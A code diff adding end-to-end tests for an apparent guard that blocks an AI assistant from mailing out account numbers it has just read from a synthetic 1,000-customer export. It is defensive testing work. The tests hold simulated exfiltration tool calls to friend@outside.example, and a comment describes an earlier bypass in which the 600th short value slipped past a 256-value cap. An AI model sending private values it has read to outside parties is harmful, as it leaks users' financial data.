@@ -17,6 +17,10 @@ import { metaDecision, text } from './helpers.js';
 const LONG_SENDER = 'margaret.okonkwo.villanueva@northwind-holdings.example';
 const MAIL = 'Hello, your new card PIN is 482913 and your account number is 7730 5521 0498. Your access key: Xq7Rk29Lm4Tz. Savings acct.: 55115511. Visit the branch on 2026-11-24 at 10:30 with 2 documents.';
 
+/** A customer export: a thousand account numbers in one mail. */
+const account = (n: number) => String(40_000_000 + ((n * 7919) % 1_000_003) * 37).padStart(10, '7');
+const EXPORT = Array.from({ length: 1000 }, (_, n) => `customer ${n + 1}, account ${account(n)}, since 2019`).join('\n');
+
 describe('e2e: short private values are recognised when they leave (data flow, default book)', () => {
   const sb = makeSandbox();
   const outsideLog = join(sb.dir, 'outside.jsonl');
@@ -93,6 +97,47 @@ describe('e2e: short private values are recognised when they leave (data flow, d
     const res = await call('mail__send_email', { to: LONG_SENDER, subject: 'Re: Board minutes', body: 'Thank you, received.' });
     expect(res.isError, `${text(res)} ${JSON.stringify(metaDecision(res))}`).toBeFalsy();
     expect(outbox()).toContain(LONG_SENDER);
+  }, 30_000);
+});
+
+describe('e2e: one account of a thousand read at once', () => {
+  const sb = makeSandbox();
+  let client: Client;
+  const call = (name: string, args: Record<string, unknown>) => client.callTool({ name, arguments: args }) as Promise<CallToolResult>;
+  const outbox = () => (existsSync(sb.outbox) ? readFileSync(sb.outbox, 'utf8') : '');
+
+  beforeAll(async () => {
+    writeFileSync(sb.inbox, JSON.stringify([{ id: '3', from: 'crm@example.com', subject: 'Customer export', body: EXPORT }]));
+    const cfg = writeConfig(sb.dir, {
+      servers: { mail: server('mail', '--inbox', sb.inbox, '--outbox', sb.outbox) },
+      policy: join(ROOT, 'policies', 'default'),
+      store: join(sb.dir, 'state.db'),
+      guard: { watcher: { quarantine: false } },
+    });
+    client = (await connectStdio(cfg, 'assistant')).client;
+    await client.listTools();
+    const read = await call('mail__read_email', { id: '3' });
+    expect(read.isError, text(read)).toBeFalsy();
+    expect(text(read)).toContain(account(999));
+  }, 60_000);
+  afterAll(async () => {
+    await client?.close().catch(() => undefined);
+    rmSync(sb.dir, { recursive: true, force: true });
+  });
+
+  // A read kept 256 short values: the 600th account sent alone (too short for the fingerprints) passed.
+  it.each([0, 599, 999])('denies account %i sent alone, and nothing arrives', async (n) => {
+    const before = outbox();
+    const res = await call('mail__send_email', { to: 'friend@outside.example', subject: `acct-${n}`, body: `the number is ${account(n)}` });
+    expect(res.isError, text(res)).toBe(true);
+    expect(metaDecision(res)?.rules).toContain('no-read-then-exfiltrate');
+    expect(outbox()).toBe(before);
+  }, 30_000);
+
+  it('allows a number the export does not hold, and it arrives (control)', async () => {
+    const res = await call('mail__send_email', { to: 'friend@outside.example', subject: 'other', body: 'the number is 7345678912' });
+    expect(res.isError, `${text(res)} ${JSON.stringify(metaDecision(res))}`).toBeFalsy();
+    expect(outbox()).toContain('7345678912');
   }, 30_000);
 });
 
